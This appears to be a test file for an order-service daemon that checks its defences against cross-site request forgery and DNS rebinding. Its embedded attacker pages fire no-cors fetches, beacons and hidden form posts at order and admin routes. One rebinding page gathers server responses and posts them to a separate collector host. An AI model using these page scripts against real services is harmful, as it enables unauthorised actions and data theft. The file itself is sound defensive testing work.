// Web pages of other sites cannot act through the browser of somebody who has an open orderd on his
// machine: tried by real pages in Chromium, on another origin and by DNS rebinding.
import assert from 'node:assert/strict'
import http from 'node:http'
import net from 'node:net'
import { test } from 'node:test'

import { withPage } from './browser.mjs'
import { assertProblem, Client, order, raw, until, useServer, withServer } from './lib.mjs'

const PLUGIN = `
oms.route("POST", "/poke", {}, function(request) return { text = "poked" } end)
oms.route("POST", "/anybody", { role = "public" }, function(request) return { text = request.body } end)
oms.route("GET", "/own-page", { role = "public" }, function(request)
  return { html = "<!doctype html><script>" .. request.query.script .. "</script>" }
end)
`
const server = await useServer({
  options: { 'plugins.load': 'pages' },
  prepare: on => on.writePlugin('pages', PLUGIN),
})

/** Whether the browser's name for this machine is resolved without asking anybody. */
const NAMES = ['--host-resolver-rules=MAP *.example 127.0.0.1']

/** A site of the attacker: serves `page`, and collects what its script reports. */
async function withSite(page, work) {
  const reports = []
  const site = http.createServer((request, response) => {
    let body = ''
    request.setEncoding('utf8').on('data', text => { body += text })
    request.on('end', () => {
      if (request.method === 'POST') reports.push(JSON.parse(body))
      response.setHeader('connection', 'close')
      response.setHeader('content-type', 'text/html')
      response.end(request.url === '/page' ? page : '')
    })
  })
  await new Promise(resolve => { site.listen(0, '127.0.0.1', resolve) })
  try {
    return await work({
      site,
      port: site.address().port,
      report: () => until(() => reports[0], { what: 'the report of the page', timeout: 60_000 }),
    })
  } finally {
    site.closeAllConnections()
    site.close()
  }
}

/** The value of a metric, 0 when it is not there. */
async function metric(name, on = server) {
  const { text } = await on.get('/metrics')
  const line = text.split('\n').find(each => each.startsWith(`${name} `))
  return line ? Number(line.slice(name.length + 1)) : 0
}

const ran = route => metric(`orderd_http_request_seconds_count{route="${route}"}`)

/** What a page can do without asking the server first, to all kinds of routes. */
const attack = (target, uuid, home) => `<!doctype html><iframe name=hidden></iframe><script>
const target = ${JSON.stringify(target)}, order = ${JSON.stringify(JSON.stringify(order()))}
const post = (path, more = {}) => fetch(target + path, { method: 'POST', mode: 'no-cors', ...more }).catch(String)
const form = (path, enctype) => {
  const made = Object.assign(document.createElement('form'), { method: 'post', action: target + path, target: 'hidden', enctype })
  document.body.append(made)
  const done = new Promise(resolve => { document.querySelector('iframe').onload = resolve })
  made.submit()
  return done
}
const attacks = [
  () => post('/api/orders', { body: order }),
  () => post('/api/orders', { body: new Blob([order]) }),
  () => post('/api/orders/${uuid}/cancel'),
  () => post('/api/orders/${uuid}/shipments'),
  () => post('/api/orders/${uuid}/invoices', { referrerPolicy: 'no-referrer' }),
  () => post('/admin/reload'),
  () => post('/admin/bundles/rollback', { body: new URLSearchParams({ a: 1 }) }),
  () => post('/poke'),
  () => navigator.sendBeacon(target + '/poke', 'x'),
  () => form('/api/orders/${uuid}/cancel', 'text/plain'),
  () => form('/admin/reload', 'application/x-www-form-urlencoded'),
]
onload = async () => {
  for (const each of attacks) await each()
  // These ask first, and are told nothing that lets them.
  const asked = await Promise.allSettled([
    fetch(target + '/api/orders', { method: 'POST', body: order, headers: { 'content-type': 'application/json' } }),
    fetch(target + '/api/orders/${uuid}', { method: 'PATCH', body: '{}' }),
    fetch(target + '/api/orders'),
  ])
  await fetch('http://${home}/report', { method: 'POST', mode: 'no-cors',
    body: JSON.stringify({ sent: attacks.length, asked: asked.map(each => each.status) }) })
}
</script>`

for (const [what, host] of [['another site', 'evil.example'], ['another port of this machine', '127.0.0.1']]) {
  test(`a page of ${what} cannot place, cancel, ship or reload`, async () => {
    const { uuid } = await server.place()
    const routes = ['place', 'cancel', 'shipment', 'invoice', 'reload', 'rollback', 'POST /poke']
    const count = async () => ({
      orders: (await server.get('/api/orders?limit=200')).body.items.length,
      ran: await Promise.all(routes.map(ran)),
    })
    const before = await count()
    const refused = await metric('orderd_http_foreign_total{by="origin"}')
    const sites = {}
    await withSite('', async home => withSite(attack(server.url, uuid, `127.0.0.1:${home.port}`), async ({ port }) => {
      await withPage(`http://${host}:${port}/page`, NAMES, async () => {
        Object.assign(sites, await home.report())
      })
    }))
    assert.deepEqual(sites.asked, ['rejected', 'rejected', 'rejected'], 'the browser lets none of them through')
    // The beacon may arrive behind the report.
    await until(async () => await metric('orderd_http_foreign_total{by="origin"}') === refused + sites.sent,
      { what: 'every attack being refused' })
    assert.deepEqual(await count(), before)
    assert.deepEqual((await server.client.events(uuid)).map(each => each.type), ['order.placed'])
  })
}

test('a page that has its own name mean this machine can neither act nor read', async () => {
  const { uuid } = await server.place()
  const before = (await server.get('/api/orders?limit=200')).body.items.length
  let rebound = false
  // From its second half on, connections to the attacker's site end at orderd, as by a name that has another
  // address now: the browser sees one and the same origin.
  const page = home => `<!doctype html><script>
    const answers = []
    const ask = async (method, path, body) => {
      const type = body === undefined ? {} : { 'content-type': 'application/json' }
      const answer = await fetch(path, { method, body, headers: { ...type, 'x-requested-with': 'fetch' } })
      answers.push({ method, path, status: answer.status, text: await answer.text() })
    }
    onload = async () => {
      await fetch('/rebind')
      await ask('GET', '/api/orders')
      await ask('GET', '/api/orders/${uuid}')
      await ask('GET', '/api/orders.csv')
      await ask('GET', '/metrics')
      await ask('POST', '/api/orders', ${JSON.stringify(JSON.stringify(order()))})
      await ask('POST', '/api/orders/${uuid}/cancel')
      await ask('POST', '/admin/reload')
      await ask('POST', '/poke')
      await fetch('http://${home}/report', { method: 'POST', mode: 'no-cors', body: JSON.stringify(answers) })
    }
  </script>`
  const answers = await withSite('', home => withSite(page(`127.0.0.1:${home.port}`), async ({ site }) => {
    const { hostname, port } = new URL(server.url)
    site.prependListener('request', request => { rebound ||= request.url === '/rebind' })
    const front = net.createServer(socket => {
      socket.on('error', () => {})
      if (!rebound) {
        site.emit('connection', socket)
        return
      }
      const to = net.connect(Number(port), hostname).on('error', () => socket.destroy())
      socket.pipe(to).pipe(socket)
    })
    await new Promise(resolve => { front.listen(0, '127.0.0.1', resolve) })
    try {
      return await withPage(`http://evil.example:${front.address().port}/page`, NAMES, home.report)
    } finally {
      front.close()
    }
  }))
  assert.equal(answers.length, 8)
  for (const { method, path, status, text } of answers) {
    assert.equal(status, 403, `${method} ${path}: ${text}`)
    const { code, detail } = JSON.parse(text)
    assert.equal(code, 'foreign_host')
    assert.match(detail, /evil\.example.*hosts.*\[server\]/)
    assert.ok(!text.includes(uuid))
  }
  assert.equal((await server.get('/api/orders?limit=200')).body.items.length, before)
})

test('a page of this server itself acts, by each of its names', async () => {
  const { port } = new URL(server.url)
  for (const name of ['127.0.0.1', 'localhost', 'shop.localhost']) {
    const { uuid } = await server.place()
    const script = home => `(async () => {
      const json = { 'content-type': 'application/json' }
      const placed = await fetch('/api/orders', { method: 'POST', headers: json, body: ${JSON.stringify(JSON.stringify(order()))} })
      const canceled = await fetch('/api/orders/${uuid}/cancel', { method: 'POST' })
      fetch('http://${home}/report', { method: 'POST', mode: 'no-cors', body: JSON.stringify([placed.status, canceled.status]) })
    })()`
    await withSite('', async home => {
      const url = `http://${name}:${port}/own-page?script=${encodeURIComponent(script(`127.0.0.1:${home.port}`))}`
      await withPage(url, [], async () => assert.deepEqual(await home.report(), [201, 200], name))
    })
  }
})

test('programs need neither Origin nor a type for an empty body; what forms send is not taken', async () => {
  const { uuid } = await server.place()
  const { host } = new URL(server.url)
  const bare = await raw(server.url, `POST /api/orders/${uuid}/invoices HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\n\r\n`)
  assert.equal(bare.status, 201, bare.text)
  const old = await raw(server.url, `POST /api/orders/${uuid}/invoices HTTP/1.0\r\n\r\n`)
  assert.ok([201, 409].includes(old.status), old.text)
  for (const type of ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data; boundary=x']) {
    for (const path of [`/api/orders/${uuid}/cancel`, '/admin/reload', '/poke']) {
      const form = headers => server.api('POST', path, '', { 'content-type': type, ...headers })
      assertProblem(await form({}), 415, { detail: /application\/json/ })
      assert.notEqual((await form({ 'x-requested-with': 'fetch' })).status, 415)
    }
    // Payment providers send forms; whoever takes them checks their signature.
    assert.equal((await server.api('POST', '/anybody', 'a=1', { 'content-type': type })).text, 'a=1')
  }
})

test('names and origins are configured, and a reload is enough', async () => {
  const host = name => server.get('/api/orders?limit=1', { host: name })
  const act = origin => server.post('/api/orders', order(), { origin })
  assertProblem(await host('orders.example.com'), 403, { code: 'foreign_host', detail: /orders\.example\.com/ })
  assertProblem(await act('https://desk.example.com'), 403, { code: 'foreign_origin', detail: /desk\.example\.com/ })
  server.editConfig(text => text.replace(/^#hosts =$/m, 'hosts = orders.example.com')
    .replace(/^#origins =$/m, 'origins = https://desk.example.com'))
  assert.equal((await server.run('reload')).code, 0)
  assert.equal((await host('orders.example.com')).status, 200)
  assert.equal((await host('other.example.com')).status, 403)
  assert.equal((await act('https://desk.example.com')).status, 201)
  assert.equal((await act('https://other.example.com')).status, 403)
  server.editConfig(text => text.replace(/^hosts = .*$/m, 'hosts = https://orders.example.com'))
  const { code, stderr, stdout } = await server.run('reload')
  assert.equal(code, 1)
  assert.match(stdout + stderr, /server\.hosts: "https:\/\/orders\.example\.com" is not a host/)
})

test('with keys any Host will do until hosts are configured, and a page still may not act', async () => {
  await withServer({ options: { 'auth.mode': 'keys' } }, async on => {
    const { stdout } = await on.run(['key', 'add'], ['till', '--role', 'staff'])
    const client = new Client(on.url, { key: stdout.trim() })
    const status = async (path, headers) => (await client.get(path, headers)).status
    await until(async () => await status('/api/orders') === 200, { what: 'the key being known' })
    for (const hosts of ['', 'orders.example.com']) {
      on.editConfig(text => text.replace(/^#hosts =$/m, hosts ? `hosts = ${hosts}` : '#hosts ='))
      assert.equal((await on.run('reload')).code, 0)
      assert.equal(await status('/api/orders', { host: 'orders.example.com' }), 200)
      assert.equal(await status('/api/orders', { host: 'other.example.com' }), hosts ? 403 : 200)
      assertProblem(await client.post('/api/orders', order(), { origin: 'https://evil.example' }), 403,
        { code: 'foreign_origin' })
      assert.equal((await client.post('/api/orders', order(), { host: 'orders.example.com',
        origin: 'https://orders.example.com' })).status, 201)
    }
    client.close()
  })
})
